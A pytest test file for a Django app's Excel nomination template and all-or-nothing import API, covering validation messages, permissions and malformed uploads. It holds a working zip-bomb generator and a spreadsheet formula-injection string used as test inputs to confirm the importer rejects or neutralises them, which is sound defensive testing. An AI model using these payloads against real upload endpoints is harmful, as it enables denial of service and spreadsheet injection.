"""The Excel template for nominations and its all-or-nothing import, through the API."""

import datetime as dt
import io
import os
import struct
import time
import tracemalloc
import zipfile
import zlib

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from ish.nominations import services, spreadsheet
from ish.nominations.models import Nomination
from ish.seasons.models import City, ResearchField
from tests.factories import SeasonFactory

pytestmark = pytest.mark.django_db

TEMPLATE_URL = "/api/v1/nominations/import-template/"
IMPORT_URL = "/api/v1/nominations/import/"
HEADERS = [
    "Given name", "Family name", "Date of birth", "Gender", "E-mail", "Phone", "Nationality",
    "School", "Graduation year", "English level", "German level", "Research interest 1",
    "Research interest 2", "Research interest 3", "Motivation", "Language", "Rank",
    "Passport number", "Dietary requirements", "Medical notes", "Emergency contact",
    "Emergency contact phone",
]  # fmt: skip


def student(n: int = 1, **fields) -> dict:
    """A complete row of the template, by header."""
    return {
        "Given name": "Aiko",
        "Family name": f"Tanaka {n}",
        "Date of birth": dt.date(2008, 5, 14),
        "Gender": "female",
        "E-mail": f"aiko{n}@example.jp",
        "Phone": "+81 96 123 4567",
        "Nationality": "JP",
        "School": "Kumamoto Prefectural High School",
        "Graduation year": 2027,
        "English level": "B2",
        "German level": "A1",
        "Research interest 1": "biology",
        "Research interest 2": "chemistry",
        "Motivation": "I want to work in a real laboratory.",
        "Language": "en",
        "Emergency contact": "Hiroshi Tanaka",
        "Emergency contact phone": "+81 96 765 4321",
    } | fields


def filled_template(season, rows: list[dict | None]) -> bytes:
    """The season's template with `rows` written from row 2 on (None leaves a row empty)."""
    workbook = openpyxl.load_workbook(io.BytesIO(spreadsheet.build_template(season)))
    sheet = workbook["Nominations"]
    columns = {cell.value: cell.column for cell in sheet[1]}
    for number, row in enumerate(rows, start=2):
        for header, value in (row or {}).items():
            sheet.cell(row=number, column=columns[header], value=value)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def upload(client, season, content: bytes, name: str = "nominations.xlsx", **data):
    file = SimpleUploadedFile(name, content, content_type=spreadsheet.XLSX)
    return client.post(IMPORT_URL, {"season": season.pk, "file": file, **data}, format="multipart")


def errors_of(response) -> list[dict]:
    assert response.status_code == 400, response.content
    return response.json()["errors"]


def the_only_message(response) -> str:
    (error,) = errors_of(response)
    assert error["row"] is None
    assert error["column"] is None
    return error["message"]


def zip_of(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def with_part_rewritten(content: bytes, name: str, rewrite) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(content))
    parts = {part: source.read(part) for part in source.namelist()}
    return zip_of(parts | {name: rewrite(parts[name])})


def zip_bomb(megabytes: int) -> bytes:
    """A workbook-looking zip whose sheet unpacks to `megabytes` MB of spaces, built in a blink:
    after a full flush deflate starts afresh, so every megabyte packs to the same bytes."""
    megabyte = b" " * 2**20
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = deflate.compress(megabyte) + deflate.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _megabyte in range(megabytes):
        crc = zlib.crc32(megabyte, crc)
    entries = [
        (b"[Content_Types].xml", zlib.compress(b"<Types/>")[2:-4], zlib.crc32(b"<Types/>"), 8),
        (b"xl/worksheets/sheet1.xml", packed * megabytes + deflate.flush(), crc, megabytes << 20),
    ]
    body, directory = b"", b""
    for name, data, checksum, size in entries:
        sizes = (checksum, len(data), size, len(name))
        directory += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, *sizes,
                                 0, 0, 0, 0, 0, len(body)) + name  # fmt: skip
        body += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, *sizes, 0) + name + data
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2, 2, len(directory), len(body), 0)
    return body + directory + end


@pytest.fixture
def template(season) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(spreadsheet.build_template(season)))


@pytest.fixture
def kumamoto(db) -> City:
    return City.objects.get(slug="kumamoto")


# --- the template ----------------------------------------------------------------------------


def test_template_has_every_column_with_an_explaining_comment_on_its_header(template):
    sheet = template["Nominations"]

    assert [cell.value for cell in sheet[1]] == HEADERS
    for cell in sheet[1]:
        assert cell.comment is not None, cell.value
        assert len(cell.comment.text) > 10
    assert "YYYY-MM-DD" in sheet["C1"].comment.text
    assert "A1, A2, B1, B2, C1, C2" in sheet["J1"].comment.text


def test_template_freezes_the_header_and_formats_dates_and_widths(template):
    sheet = template["Nominations"]

    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["C"].number_format == "yyyy-mm-dd"
    assert sheet.column_dimensions["O"].width > sheet.column_dimensions["Q"].width


def test_template_names_its_season(season):
    other = SeasonFactory(year=2031)

    workbook = openpyxl.load_workbook(io.BytesIO(spreadsheet.build_template(other)))

    assert "2031" in workbook.properties.title
    assert "2027" not in workbook.properties.title


def test_template_offers_drop_downs_for_every_choice_country_and_research_field(template):
    sheet = template["Nominations"]
    lists = template["Lists"]
    drop_downs = {
        str(rule.sqref): rule.formula1
        for rule in sheet.data_validations.dataValidation
        if rule.type == "list"
    }

    assert drop_downs["D2:D501"] == '"female,male,diverse"'
    assert drop_downs["J2:J501"] == '"A1,A2,B1,B2,C1,C2"'
    assert drop_downs["K2:K501"] == '"none,A1,A2,B1,B2,C1,C2"'
    assert drop_downs["P2:P501"] == '"en,de"'
    countries = drop_downs["G2:G501"]
    codes = [cell.value for (cell,) in lists[countries.split("!")[1].replace("$", "")]]
    assert {"JP", "DE", "FR", "ZA"} <= set(codes)
    assert len(codes) > 240
    field_range = lists[drop_downs["L2:L501"].split("!")[1].replace("$", "")]
    slugs = {cell.value for (cell,) in field_range}
    assert slugs == set(ResearchField.objects.values_list("slug", flat=True))
    assert drop_downs["M2:M501"] == drop_downs["N2:N501"] == drop_downs["L2:L501"]
    assert lists.protection.sheet


def test_a_research_field_named_like_a_formula_is_listed_as_text(season):
    name = '=HYPERLINK("http://x"&A1,"Open CV")'
    ResearchField.objects.create(slug="zz-hyperlink", name=name)

    lists = openpyxl.load_workbook(io.BytesIO(spreadsheet.build_template(season)))["Lists"]

    (cell,) = [cell for cell in lists["E"] if cell.value == name]
    assert cell.data_type == "s"
    assert lists.cell(row=cell.row, column=4).value == "zz-hyperlink"
    assert not [cell for row in lists.iter_rows() for cell in row if cell.data_type == "f"]


@pytest.mark.parametrize("role", ["organiser", "coordinator"])
def test_organisers_and_coordinators_download_the_template(api_as, season, role):
    response = api_as(role).get(TEMPLATE_URL, {"season": season.pk})

    assert response.status_code == 200
    assert response["Content-Type"] == spreadsheet.XLSX
    assert "ish-2027-nominations.xlsx" in response["Content-Disposition"]
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Nominations", "Lists"]


@pytest.mark.parametrize(("role", "status"), [("lab_host", 403), ("anonymous", 401)])
def test_lab_hosts_and_strangers_get_no_template(api_as, season, role, status):
    assert api_as(role).get(TEMPLATE_URL, {"season": season.pk}).status_code == status


@pytest.mark.parametrize(
    ("query", "status"), [({}, 400), ({"season": "x"}, 400), ({"season": 999999}, 404)]
)
def test_template_needs_an_existing_season(api_as, season, query, status):
    assert api_as("coordinator").get(TEMPLATE_URL, query).status_code == status


# --- importing -------------------------------------------------------------------------------


def test_coordinator_imports_every_row_as_a_draft_of_their_city(api_as, coordinator, season):
    content = filled_template(season, [student(1), student(2, **{"Research interest 1": None})])

    response = upload(api_as("coordinator"), season, content)

    assert response.status_code == 201, response.content
    assert response.json() == {"created": 2}
    first, second = Nomination.objects.filter(season=season).order_by("rank")
    assert (first.family_name, second.family_name) == ("Tanaka 1", "Tanaka 2")
    assert {n.status for n in (first, second)} == {Nomination.Status.DRAFT}
    assert {n.city.slug for n in (first, second)} == {"kumamoto"}
    assert first.created_by == coordinator
    assert first.date_of_birth == dt.date(2008, 5, 14)
    assert (first.gender, first.nationality.code, first.graduation_year) == ("female", "JP", 2027)
    assert str(first.phone) == "+81961234567"
    assert first.emergency_contact_name == "Hiroshi Tanaka"
    assert [i.field.slug for i in first.interests.all()] == ["biology", "chemistry"]
    assert [i.field.slug for i in second.interests.all()] == ["chemistry"]
    assert first.changes.get().action == "create"


def test_cells_are_read_as_people_type_them(api_as, season):
    row = student(
        **{
            "Given name": "  Aiko  ",
            "Date of birth": "2008-05-14",
            "Graduation year": 2027.0,
            "English level": "b2",
            "German level": "NONE",
            "Nationality": "jp",
            "Gender": "Female",
            "Research interest 1": "Physics",
            "Research interest 2": None,
            "Language": None,
            "Rank": "4",
            "Passport number": 12345678,
        }
    )

    response = upload(api_as("coordinator"), season, filled_template(season, [row]))

    assert response.status_code == 201, response.content
    nomination = Nomination.objects.get()
    assert nomination.given_name == "Aiko"
    assert nomination.date_of_birth == dt.date(2008, 5, 14)
    assert nomination.graduation_year == 2027
    assert (nomination.english_level, nomination.german_level) == ("B2", "none")
    assert (nomination.nationality.code, nomination.gender) == ("JP", "female")
    assert nomination.interests.get().field.slug == "physics"
    assert (nomination.language, nomination.rank) == ("en", 4)
    assert nomination.passport_number == "12345678"


def test_empty_rows_are_skipped_and_rows_keep_their_excel_numbers(api_as, season):
    content = filled_template(season, [student(1), None, student(3, **{"Gender": "x"})])

    errors = errors_of(upload(api_as("coordinator"), season, content))

    assert [(error["row"], error["column"]) for error in errors] == [(4, "Gender")]
    assert "female, male, diverse" in errors[0]["message"]


def test_a_bad_date_in_row_3_imports_nothing_and_names_row_and_column(api_as, season):
    rows = [student(1), student(2, **{"Date of birth": "14.05.2008"}), student(3)]

    errors = errors_of(upload(api_as("coordinator"), season, filled_template(season, rows)))

    assert errors == [
        {
            "row": 3,
            "column": "Date of birth",
            "message": "Enter a date as YYYY-MM-DD, e.g. 2008-05-14, not “14.05.2008”.",
        }
    ]
    assert not Nomination.objects.exists()


def test_every_error_of_every_row_is_reported_in_row_and_column_order(api_as, season):
    rows = [
        student(1, **{"Nationality": "Japan", "Gender": "f"}),
        student(2),
        student(3, **{"E-mail": "not an address", "Family name": None}),
        student(4, **{"Date of birth": dt.date(1990, 1, 1), "Graduation year": "soon"}),
    ]

    errors = errors_of(upload(api_as("coordinator"), season, filled_template(season, rows)))

    assert [(error["row"], error["column"]) for error in errors] == [
        (2, "Gender"),
        (2, "Nationality"),
        (4, "Family name"),
        (4, "E-mail"),
        (5, "Date of birth"),
        (5, "Graduation year"),
    ]
    assert "is not an ISO country code" in errors[1]["message"]
    assert "16 to 22 years" in errors[4]["message"]
    assert not Nomination.objects.exists()


def test_texts_longer_than_the_api_allows_are_refused(api_as, season):
    rows = [student(1, **{"Motivation": "x" * 5001, "Given name": "y" * 101})]

    errors = errors_of(upload(api_as("coordinator"), season, filled_template(season, rows)))

    assert [(error["row"], error["column"]) for error in errors] == [
        (2, "Given name"),
        (2, "Motivation"),
    ]
    assert "at most 5000 characters (it has 5001)" in errors[1]["message"]


def test_an_email_twice_in_the_file_names_the_earlier_row(api_as, season):
    rows = [student(1), student(2), student(3, **{"E-mail": "AIKO1@example.jp"})]

    errors = errors_of(upload(api_as("coordinator"), season, filled_template(season, rows)))

    assert errors == [
        {"row": 4, "column": "E-mail", "message": "The same e-mail address is in row 2."}
    ]
    assert not Nomination.objects.exists()


def test_an_email_already_nominated_this_season_is_refused(api_as, coordinator, season, kumamoto):
    existing = services.create_nomination(
        actor=coordinator,
        season=season,
        city=kumamoto,
        given_name="Aiko",
        family_name="Tanaka",
        email="AIKO2@example.jp",
    )
    content = filled_template(season, [student(1), student(2)])

    response = upload(api_as("coordinator"), season, content)

    assert errors_of(response) == [
        {
            "row": 3,
            "column": "E-mail",
            "message": "A student with this e-mail address is already nominated for this season.",
        }
    ]
    assert list(Nomination.objects.all()) == [existing]


def test_an_unknown_research_field_is_refused_naming_the_fields(api_as, season):
    rows = [student(1, **{"Research interest 2": "alchemy"})]

    errors = errors_of(upload(api_as("coordinator"), season, filled_template(season, rows)))

    assert [(error["row"], error["column"]) for error in errors] == [(2, "Research interest 2")]
    assert "“alchemy” is not allowed" in errors[0]["message"]
    assert "biology, chemistry" in errors[0]["message"]


def test_a_research_field_chosen_twice_is_refused(api_as, season):
    rows = [student(1, **{"Research interest 2": "biology"})]

    errors = errors_of(upload(api_as("coordinator"), season, filled_template(season, rows)))

    assert errors == [
        {
            "row": 2,
            "column": "Research interest 1",
            "message": "Each research interest may be chosen once.",
        }
    ]


def test_the_city_in_the_payload_is_ignored_for_coordinators(api_as, season):
    content = filled_template(season, [student(1)])

    response = upload(api_as("coordinator"), season, content, city="hangzhou")

    assert response.status_code == 201
    assert Nomination.objects.get().city.slug == "kumamoto"


def test_organisers_import_for_the_city_they_name(api_as, organiser, season):
    content = filled_template(season, [student(1)])

    assert upload(api_as("organiser"), season, content).json() == {
        "city": ["Organisers must name the city."]
    }
    response = upload(api_as("organiser"), season, content, city="hangzhou")

    assert response.status_code == 201
    assert Nomination.objects.get().city.slug == "hangzhou"


@pytest.mark.parametrize(("role", "status"), [("lab_host", 403), ("anonymous", 401)])
def test_lab_hosts_and_strangers_cannot_import(api_as, season, role, status):
    response = upload(api_as(role), season, filled_template(season, [student(1)]))

    assert response.status_code == status
    assert not Nomination.objects.exists()


def test_a_coordinator_after_the_deadline_imports_nothing(api_as, season, kumamoto):
    season.nomination_deadline = timezone.now() - dt.timedelta(days=1)
    season.save()

    content = filled_template(season, [student(1)])

    message = the_only_message(upload(api_as("coordinator"), season, content))

    assert "The nomination deadline of Kumamoto passed" in message
    assert not Nomination.objects.exists()


def test_the_import_refuses_another_city_for_a_coordinator(coordinator, season):
    file = SimpleUploadedFile("n.xlsx", filled_template(season, [student(1)]))
    montpellier = City.objects.get(slug="montpellier")

    with pytest.raises(spreadsheet.ImportRejected) as rejected:
        spreadsheet.import_nominations(file, actor=coordinator, season=season, city=montpellier)

    assert rejected.value.errors == [
        {
            "row": None,
            "column": None,
            "message": "Coordinators may only nominate for their own city.",
        }
    ]


def test_the_import_returns_the_created_drafts(coordinator, season, kumamoto):
    file = SimpleUploadedFile("n.xlsx", filled_template(season, [student(1), student(2)]))

    created = spreadsheet.import_nominations(file, actor=coordinator, season=season, city=kumamoto)

    assert [n.family_name for n in created] == ["Tanaka 1", "Tanaka 2"]
    assert all(n.pk and n.status == Nomination.Status.DRAFT for n in created)


def test_ranks_follow_the_nominations_already_there(api_as, coordinator, season, kumamoto):
    services.create_nomination(
        actor=coordinator, season=season, city=kumamoto, given_name="A", family_name="B"
    )
    rows = [student(1), student(2, **{"Rank": 9})]

    assert upload(api_as("coordinator"), season, filled_template(season, rows)).status_code == 201

    ranks = dict(Nomination.objects.values_list("family_name", "rank"))
    assert ranks == {"B": 1, "Tanaka 1": 2, "Tanaka 2": 9}


# --- files that are not the template ---------------------------------------------------------


def test_an_unknown_column_or_a_missing_name_column_is_refused(api_as, season):
    workbook = openpyxl.Workbook()
    workbook.active.append(["Given name", "Shoe size", "E-mail"])
    workbook.active.append(["Aiko", 38, "aiko@example.jp"])
    buffer = io.BytesIO()
    workbook.save(buffer)

    errors = errors_of(upload(api_as("coordinator"), season, buffer.getvalue()))

    assert errors[0] == {
        "row": 1,
        "column": "Shoe size",
        "message": "This column is not in the template. Remove it or download the template again.",
    }
    assert errors[1]["row"] == 1
    assert "“Family name” is missing" in errors[1]["message"]


def test_columns_may_come_in_any_order_and_be_named_by_their_field(api_as, season):
    workbook = openpyxl.Workbook()
    workbook.active.append(["family_name", "E-MAIL", "Given name *", "date of birth"])
    workbook.active.append(["Tanaka", "aiko@example.jp", "Aiko", "2008-05-14"])
    buffer = io.BytesIO()
    workbook.save(buffer)

    response = upload(api_as("coordinator"), season, buffer.getvalue())

    assert response.status_code == 201, response.content
    nomination = Nomination.objects.get()
    assert (nomination.given_name, nomination.family_name) == ("Aiko", "Tanaka")
    assert nomination.date_of_birth == dt.date(2008, 5, 14)


def test_rows_beyond_a_wrong_size_recorded_in_the_file_are_still_read(api_as, season):
    content = filled_template(season, [student(1), student(2), student(3)])
    lying = with_part_rewritten(
        content,
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(b'<dimension ref="A1:V4"', b'<dimension ref="A1:V2"'),
    )
    assert lying != content

    response = upload(api_as("coordinator"), season, lying)

    assert response.json() == {"created": 3}


def test_the_season_must_exist(api_as, season):
    content = filled_template(season, [student(1)])
    file = SimpleUploadedFile("n.xlsx", content)

    response = api_as("coordinator").post(
        IMPORT_URL, {"season": 999999, "file": file}, format="multipart"
    )

    assert response.status_code == 400
    assert "season" in response.json()


def test_a_template_without_rows_is_refused(api_as, season):
    message = the_only_message(upload(api_as("coordinator"), season, filled_template(season, [])))

    assert "no nominations" in message


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("nominations.csv", b"Given name,Family name\nAiko,Tanaka\n", "not an Excel workbook"),
        ("nominations.xlsx", b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n", "not an Excel workbook"),
        ("nominations.xlsx", os.urandom(4096), "not an Excel workbook"),
        ("nominations.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4088), "old Excel file"),
        ("nominations.xlsx", zip_of({"notes.txt": b"hello"}), "not an Excel workbook"),
        ("nominations.docx", zip_of({"[Content_Types].xml": b"<Types/>"}), "damaged"),
    ],
    ids=["csv", "pdf-renamed", "random-bytes", "xls", "zip-of-text", "zip-not-a-workbook"],
)
def test_files_that_are_not_xlsx_get_a_clear_400(api_as, season, name, content, says):
    message = the_only_message(upload(api_as("coordinator"), season, content, name=name))

    assert says in message
    assert not Nomination.objects.exists()


def test_a_truncated_workbook_is_refused_as_damaged(api_as, season):
    content = filled_template(season, [student(1)])

    message = the_only_message(upload(api_as("coordinator"), season, content[:-200]))

    assert "damaged" in message


def test_a_zip_bomb_is_refused_at_once_without_unpacking_it(coordinator, season, kumamoto):
    bomb = zip_bomb(300)
    assert len(bomb) < 2**20  # 300 MB packed into less than one

    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(spreadsheet.ImportRejected) as rejected:
        spreadsheet.import_nominations(
            SimpleUploadedFile("bomb.xlsx", bomb), actor=coordinator, season=season, city=kumamoto
        )
    seconds = time.perf_counter() - started
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert "zip bomb" in rejected.value.errors[0]["message"]
    assert seconds < 1
    assert peak < 10 * 2**20


@pytest.mark.parametrize(
    "parts",
    [
        {"xl/sharedStrings.xml": bytes(5 * 2**20)},
        {f"xl/media/image{n}.xml": bytes(2**20) for n in range(21)},
        {f"xl/part{n}.xml": b"<x/>" for n in range(201)},
    ],
    ids=["one-part-packed-too-tightly", "small-parts-adding-up", "too-many-parts"],
)
def test_a_small_file_that_unpacks_to_too_much_is_refused_as_a_zip_bomb(api_as, season, parts):
    bomb = zip_of({"[Content_Types].xml": b"<Types/>", **parts})

    assert "zip bomb" in the_only_message(upload(api_as("coordinator"), season, bomb))


def test_an_oversized_upload_is_refused(api_as, season):
    content = filled_template(season, [student(1)])
    too_big = content + bytes(spreadsheet.MAX_UPLOAD_BYTES - len(content) + 1)

    message = the_only_message(upload(api_as("coordinator"), season, too_big))

    assert "larger than 5 MB" in message
    assert not Nomination.objects.exists()


def test_more_rows_than_allowed_are_refused_before_anything_is_saved(api_as, season):
    rows = [{"Given name": "A", "Family name": f"B{n}"} for n in range(spreadsheet.MAX_ROWS + 1)]

    message = the_only_message(upload(api_as("coordinator"), season, filled_template(season, rows)))

    assert "more than 500 nominations" in message
    assert not Nomination.objects.exists()
